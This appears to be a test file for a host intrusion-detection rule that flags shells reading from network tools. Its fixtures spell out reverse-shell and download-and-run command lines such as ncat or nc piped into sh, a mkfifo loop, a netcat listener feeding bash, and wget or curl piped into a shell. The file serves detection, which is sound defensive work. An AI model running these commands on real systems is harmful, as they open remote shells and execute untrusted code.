import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { EventV1, ProcessV1 } from '@vigil/schema';
import { builtinEngine, conn, connect, execWithStdio, exeReference, fileFd, loud, pipeFd, ttyFd } from '../testing.js';

const run = (...events: EventV1[]) => {
  const { engine, alerts } = builtinEngine();
  engine.process(events);
  return alerts;
};
const RULE = 'shell.pipe-from-network';

/**
 * `writer | shell` over pipe `ino`: the writer (pid 7001) and the shell (pid 7002), children of one
 * bash. Each event is made when asked for (its time is then), so a test orders them by asking.
 */
function pipeline(
  writerArgv: string[],
  ino: number,
  shellArgv = ['sh'],
  writerExe?: string,
  writer: Partial<ProcessV1> = {},
) {
  const made: Record<string, EventV1> = {};
  const w = () =>
    (made.w = execWithStdio(writerArgv, [ttyFd(0), pipeFd(1, ino), ttyFd(2)], { pid: 7001, ...writer }, writerExe));
  const s = () => (made.s = execWithStdio(shellArgv, [pipeFd(0, ino), ttyFd(1), ttyFd(2)], { pid: 7002 }));
  /** A connect of the writer: after its exec (made). */
  const c = (addr: string, port: number) => {
    const { comm, exe, argv } = made.w!.proc;
    return (made.c = connect(addr, port, { pid: 7001, comm, exe, argv, ...writer }));
  };
  return { w, s, c, made };
}

test('shell.pipe-from-network: ncat 10.0.0.5 4444 | sh is critical in any order of the events, one alert about the shell', () => {
  const orders: [string, (p: ReturnType<typeof pipeline>) => EventV1[]][] = [
    ['writer, connect, shell', (p) => [p.w(), p.c('10.0.0.5', 4444), p.s()]],
    ['shell, writer, connect', (p) => [p.s(), p.w(), p.c('10.0.0.5', 4444)]],
    ['writer, shell, connect', (p) => [p.w(), p.s(), p.c('10.0.0.5', 4444)]],
  ];
  for (const [name, order] of orders) {
    const p = pipeline(['ncat', '10.0.0.5', '4444'], 501);
    const alerts = run(...order(p)).filter((a) => a.ruleId === RULE);
    assert.equal(alerts.length, 1, name);
    const [a] = alerts;
    assert.equal(a!.severity, 'critical', name);
    assert.equal(a!.proc?.pid, 7002, `${name}: about the shell`);
    assert.match(
      a!.reason,
      /^sh \/usr\/bin\/sh \(pid 7002\) reads its stdin \(fd 0\) from pipe 501, written by a raw socket tool \(ncat\) ncat \(pid 7001\) on its fd 1/,
      name,
    );
    assert.ok(a!.evidence.includes(p.made.s!.id) && a!.evidence.includes(p.made.w!.id), name);
  }
  const p = pipeline(['ncat', '10.0.0.5', '4444'], 502);
  const [a] = run(p.w(), p.c('10.0.0.5', 4444), p.s()).filter((x) => x.ruleId === RULE);
  assert.match(a!.reason, /which connected to 10\.0\.0\.5:4444: `ncat 10\.0\.0\.5 4444`$/);
});

test('shell.pipe-from-network: raw tools and dropped programs — loopback high, elsewhere critical; installed programs seen connecting high', () => {
  const loop = pipeline(['nc', '127.0.0.1', '4444'], 510);
  assert.equal(run(loop.w(), loop.c('127.0.0.1', 4444), loop.s()).find((a) => a.ruleId === RULE)?.severity, 'high');
  const ssl = pipeline(['openssl', 's_client', '-quiet', '-connect', '10.0.0.5:443'], 511);
  assert.equal(run(ssl.w(), ssl.c('10.0.0.5', 443), ssl.s()).find((a) => a.ruleId === RULE)?.severity, 'critical');
  const unknown = pipeline(['/tmp/.x/updater'], 512, ['bash']);
  const [u] = run(unknown.w(), unknown.c('198.51.100.3', 8443), unknown.s()).filter((a) => a.ruleId === RULE);
  assert.equal(u?.severity, 'critical');
  assert.match(u!.reason, /written by a program updater \(pid 7001\).*connected to 198\.51\.100\.3:8443/);
  // An installed interpreter seen connecting (a trainer with its peers) is high, not critical.
  const py = pipeline(['python3', 'emit.py'], 514, ['bash']);
  assert.equal(run(py.w(), py.c('10.0.0.9', 29500), py.s()).find((a) => a.ruleId === RULE)?.severity, 'high');
  // A renamed copy of socat is socat by content.
  const sha = 'c'.repeat(64);
  const renamed = pipeline(['/tmp/relay', 'TCP:10.0.0.5:4444', '-'], 513, ['bash'], '/tmp/relay', { exeHash: sha });
  const [r] = run(exeReference('/usr/bin/socat', sha), renamed.w(), renamed.s()).filter((a) => a.ruleId === RULE);
  assert.equal(r?.severity, 'critical', 'argv names a host off this one, no connect seen yet');
  assert.match(r!.reason, /raw socket tool \(socat\)/);
});

test('shell.pipe-from-network: the mkfifo loop (cat f | sh -i | nc host port > f), and nc -l feeding bash', () => {
  const cat = execWithStdio(['cat', '/tmp/f'], [ttyFd(0), pipeFd(1, 540), ttyFd(2)], { pid: 7201 });
  const sh = execWithStdio(['sh', '-i'], [pipeFd(0, 540), pipeFd(1, 541), pipeFd(2, 541)], { pid: 7202 });
  const nc = execWithStdio(['nc', '10.0.0.1', '4242'], [pipeFd(0, 541), { fd: 1, type: 'fifo', ino: 9 }], {
    pid: 7203,
  });
  const ncProc = { pid: 7203, comm: 'nc', exe: '/usr/bin/nc', argv: nc.exec.argv };
  const loop = run(cat, sh, nc, connect('10.0.0.1', 4242, ncProc)).filter((a) => a.ruleId === RULE);
  assert.deepEqual(
    loop.map((a) => a.severity),
    ['critical'],
  );
  assert.match(
    loop[0]!.reason,
    /^sh \/usr\/bin\/sh \(pid 7202\) writes its stdout \(fd 1\) into pipe 541, read by a raw socket tool \(nc\) nc \(pid 7203\) on its fd 0, while its stdin is pipe 540/,
  );
  const listener = { pid: 7301, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-lp', '8000'] };
  const bind = run(
    execWithStdio(listener.argv, [ttyFd(0), pipeFd(1, 550)], listener),
    execWithStdio(['bash'], [pipeFd(0, 550)], { pid: 7302 }),
    conn('listen', null, '0.0.0.0:8000', '0.0.0.0:0', listener),
    conn('established', 'in', '10.0.0.2:8000', '198.51.100.4:50000', listener),
  ).filter((a) => a.ruleId === RULE);
  assert.deepEqual(
    bind.map((a) => a.severity),
    ['high', 'critical'],
  );
  assert.match(bind[1]!.reason, /which accepted a connection from 198\.51\.100\.4:50000: `nc -lp 8000`$/);
  // A script's output sent with nc, its stdin a terminal; a report uploaded with curl.
  const report = run(
    execWithStdio(['sh', 'report.sh'], [ttyFd(0), pipeFd(1, 560)], { pid: 7401 }),
    execWithStdio(['nc', '10.0.0.9', '9000'], [pipeFd(0, 560), ttyFd(1)], { pid: 7402 }),
    execWithStdio(['sh', '-c', 'x'], [pipeFd(0, 561), pipeFd(1, 562)], { pid: 7403 }),
    execWithStdio(['curl', '-T', '-', 'https://x.example/upload'], [pipeFd(0, 562), ttyFd(1)], { pid: 7404 }),
  );
  assert.deepEqual(
    report.filter((a) => a.ruleId === RULE),
    [],
  );
});

test('shell.pipe-from-network: wget -qO- from a raw IP into bash is high; curl | sh from a named HTTPS host is medium', () => {
  const wget = pipeline(['wget', '-qO-', 'http://203.0.113.9/x.sh'], 520, ['bash']);
  const [w] = run(wget.w(), wget.c('203.0.113.9', 80), wget.s()).filter((a) => a.ruleId === RULE);
  assert.equal(w?.severity, 'high');
  assert.match(w!.reason, /a downloader \(wget\) wget \(pid 7001\) on its fd 1, which connected to 203\.0\.113\.9:80/);
  const uv = pipeline(['curl', '-LsSf', 'https://astral.sh/uv/install.sh'], 521);
  const alerts = run(uv.w(), uv.c('104.21.2.3', 443), uv.s());
  assert.deepEqual(
    alerts.map((a) => [a.ruleId, a.severity]),
    [[RULE, 'medium']],
  );
  assert.deepEqual(loud(alerts), []);
});

test('shell.pipe-from-network stays quiet on pipes from local programs and on ssh host bash -s < script', () => {
  const cat = pipeline(['cat', 'setup.sh'], 530, ['bash']);
  const base64 = pipeline(['base64', '-d', 'x'], 531, ['sh']);
  const tee = pipeline(['python3', 'train.py'], 532, ['tee', 'log']);
  const ssh = execWithStdio(['ssh', 'login1', 'bash', '-s'], [fileFd(0), ttyFd(1), ttyFd(2)], { pid: 7100 });
  const alerts = run(
    cat.w(),
    cat.s(),
    base64.w(),
    base64.s(),
    tee.w(),
    connect('10.0.0.9', 29500, { pid: 7001, comm: 'python3', exe: '/usr/bin/python3', argv: ['python3', 'train.py'] }),
    tee.s(),
    ssh,
    connect('10.0.0.9', 22, { pid: 7100, comm: 'ssh', exe: '/usr/bin/ssh', argv: ['ssh', 'login1', 'bash', '-s'] }),
  );
  assert.deepEqual(loud(alerts), []);
  assert.deepEqual(
    alerts.filter((a) => a.ruleId === RULE),
    [],
  );
});

test("shell.pipe-from-network: curl | bash from a loopback URL is medium before its connect is seen (the path's install.sh is no host)", () => {
  const local = pipeline(['curl', '-fsSL', 'http://127.0.0.1:40727/install.sh'], 523, ['bash']);
  const alerts = run(local.w(), local.s(), local.c('127.0.0.1', 40727)).filter((a) => a.ruleId === RULE);
  assert.deepEqual(
    alerts.map((a) => a.severity),
    ['medium'],
  );
  // The same pipeline from a raw IP elsewhere stays high before its connect is seen.
  const far = pipeline(['curl', '-fsSL', 'http://203.0.113.9:8080/install.sh'], 524, ['bash']);
  assert.deepEqual(
    run(far.w(), far.s())
      .filter((a) => a.ruleId === RULE)
      .map((a) => a.severity),
    ['high'],
  );
});

test("shell.pipe-from-network: tar's compressor (sh -c gzip) feeding nc reads data, not commands: tar czf - dir | nc is no shell", () => {
  // tar starts `sh -c gzip` with the archive on its stdin (pipe 61) and the pipe nc reads (62) on its stdout.
  const tar = execWithStdio(['tar', 'czf', '-', 'ckpt'], [ttyFd(0), pipeFd(1, 62), ttyFd(2)], { pid: 7100 });
  const gz = execWithStdio(['/bin/sh', '-c', 'gzip'], [pipeFd(0, 61), pipeFd(1, 62), ttyFd(2)], { pid: 7101 });
  const nc = execWithStdio(['nc', '10.0.0.5', '9000'], [pipeFd(0, 62), ttyFd(1), ttyFd(2)], { pid: 7102 });
  assert.deepEqual(
    run(
      tar,
      nc,
      gz,
      connect('10.0.0.5', 9000, { pid: 7102, comm: 'nc', exe: '/usr/bin/nc', argv: nc.exec.argv }),
    ).filter((a) => a.ruleId === RULE),
    [],
  );
});
